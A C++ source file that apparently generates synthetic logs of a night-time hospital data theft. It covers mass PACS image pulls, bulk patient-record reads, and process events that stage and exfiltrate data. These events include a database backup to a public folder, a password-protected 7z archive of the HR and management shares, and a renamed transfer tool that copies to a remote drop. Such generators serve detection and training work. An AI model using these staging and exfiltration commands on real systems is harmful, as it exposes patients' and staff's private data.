// SPDX-License-Identifier: Apache-2.0
// 23:35 to 01:15: images and records are read in mass, packed and sent out.
#include "generator/lines.h"

namespace garde::examples {
namespace {

using std::chrono::seconds;

void tell_images(Night& night) {
  for (int attempt = 1; attempt <= 14; ++attempt)
    add_orthanc(night, at(23, 35) + seconds(6 * attempt), 'W',
                fmt::format("CommandDispatcher.cpp:617] Rejected association for remote AET POSTE{} on IP {}",
                            attempt, kFoothold));
  for (int study = 1; study <= 130; ++study)
    add_orthanc(
        night, at(23, 41) + seconds(3 * study), 'I',
        fmt::format("main.cpp:352] Incoming Move request from AET RADIO1 on IP {}, calling AET VALMONT",
                    kFoothold));
  add_orthanc(night, at(23, 52), 'E',
              "OrthancException.cpp:58] Accessing an inexistent item: Unknown modality for AET: SORTIE");
  for (int study = 1; study <= 35; ++study) {
    const std::string path =
        fmt::format("/studies/5f1ea816-b472511c-6c276cb8-342585d0-{:08x}/archive", study * 7919);
    add_orthanc(night, at(23, 55) + seconds(5 * study), 'I', "HttpServer.cpp:1244] (http) GET " + path);
    add_web(night, at(23, 55) + seconds(5 * study), kFoothold, "-", "GET " + path, 200, 48'211'904);
  }
}

void tell_records(Night& night) {
  for (int patient = 1; patient <= 80; ++patient) {
    add_record_access(night, at(0, 5) + seconds(7 * patient), "interne3",
                      fmt::format("IPP{}", 2000 + patient));
    add_fhir_read(night, at(0, 18) + seconds(6 * patient), "interne3", fmt::format("ipp{}", 2000 + patient));
  }
}

void tell_sending(Night& night) {
  const std::string user = "svc-app7";
  const std::string shell = "C:\\Windows\\System32\\cmd.exe";
  add_process(
      night, at(0, 31), "SRV-SQL", user, "C:\\Program Files\\Microsoft SQL Server\\Tools\\Binn\\SQLCMD.EXE",
      "sqlcmd -S . -Q \"BACKUP DATABASE DPI TO DISK='C:\\Users\\Public\\d.bak' WITH COMPRESSION\"", shell);
  add_process(night, at(0, 38), "SRV-FIC", user, "C:\\Users\\Public\\7z.exe",
              "7z.exe a -mx1 -pV4lm0nt -v4g C:\\Users\\Public\\p.7z D:\\Partages\\Direction D:\\Partages\\RH",
              shell);
  add_process(night, at(0, 52), "SRV-FIC", user, "C:\\Users\\Public\\svchost.exe",
              "svchost.exe copy C:\\Users\\Public depot:valmont --transfers 12 --no-check-certificate",
              shell);
  for (int part = 0; part < 9; ++part)
    add_traffic(night, at(0, 55) + seconds(130 * part), "10.20.30.5", kDropSite, 443, "close", 4'100'000'000,
                1'200'000);
}

}  // namespace

void tell_theft(Night& night) {
  tell_images(night);
  tell_records(night);
  tell_sending(night);
}

}  // namespace garde::examples
